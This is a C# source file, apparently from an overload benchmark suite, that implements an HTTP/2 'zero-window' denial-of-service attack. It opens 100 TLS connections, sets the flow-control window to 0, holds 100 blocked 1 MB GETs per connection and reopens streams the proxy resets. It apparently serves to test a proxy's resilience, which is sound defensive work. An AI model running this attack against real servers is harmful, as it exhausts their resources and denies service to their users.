using System.Globalization;
using System.Net.Sockets;
using System.Security.Authentication;
using OwlBoard.Benchmarks.Overload.Http2;

namespace OwlBoard.Benchmarks.Overload.Attacks;

/// <summary>HTTP/2 requests whose responses are blocked by flow control: the window of each stream is 0.</summary>
internal sealed class ZeroWindow() : Attack("zero-window")
{
    private const int Connections = 100;
    private const int StreamsPerConnection = 100;
    private const int LastStream = int.MaxValue - 2;

    private static readonly TimeSpan Pause = TimeSpan.FromSeconds(1);
    private static readonly byte[] NoWindow = Http2Frame.Setting(Http2Frame.InitialWindowSize, 0);
    private static readonly byte[] Request = Http2Frame.Request("GET", "/api/canvas/1m");

    private int _held;
    private int _most;
    private int _ended;
    private int _refused;

    public override string Description =>
        $"{Connections} HTTP/2 connections over TLS from one address, each with {StreamsPerConnection} GETs of 1 MB and a window of 0";

    public override async Task<string> RunAsync(AttackTarget target, CancellationToken stop)
    {
        await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => RunOneAsync(target, stop)));
        return string.Create(CultureInfo.InvariantCulture, $"{_most:N0} streams held, {_refused:N0} streams and {_ended:N0} connections ended by the proxy");
    }

    private async Task RunOneAsync(AttackTarget target, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            var open = 0;
            try
            {
                using var connection = await Http2Connection.OpenAsync(AttackTarget.Attacker(0), target.TlsEndPoint, NoWindow, stop);
                var receiving = connection.ReceiveAsync(
                    (type, flags, stream) =>
                    {
                        if (stream > 0 && (type == Http2Frame.ResetStream || (flags & Http2Frame.EndStream) != 0 && type is Http2Frame.Data or Http2Frame.Headers))
                        {
                            Interlocked.Decrement(ref open);
                            Interlocked.Decrement(ref _held);
                            Interlocked.Increment(ref _refused);
                        }
                    },
                    stop);
                // Replaces the streams that ended.
                for (var stream = 1; stream < LastStream && !receiving.IsCompleted && !stop.IsCancellationRequested;)
                {
                    while (Volatile.Read(ref open) < StreamsPerConnection)
                    {
                        await connection.SendAsync(
                            Http2Frame.Create(Http2Frame.Headers, Http2Frame.EndHeaders | Http2Frame.EndStream, stream, Request), stop);
                        stream += 2;
                        Interlocked.Increment(ref open);
                        _most = Math.Max(_most, Interlocked.Increment(ref _held));
                    }

                    await Task.WhenAny(receiving, Task.Delay(Pause, stop));
                }

                await receiving;
            }
            catch (Exception failure) when (failure is IOException or SocketException or AuthenticationException or OperationCanceledException)
            {
                // The proxy closed the connection, or the attack has ended.
            }

            Interlocked.Add(ref _held, -open);
            if (!stop.IsCancellationRequested)
            {
                Interlocked.Increment(ref _ended);
                await Task.Delay(Pause, stop).ContinueWith(_ => { }, TaskScheduler.Default);
            }
        }
    }
}
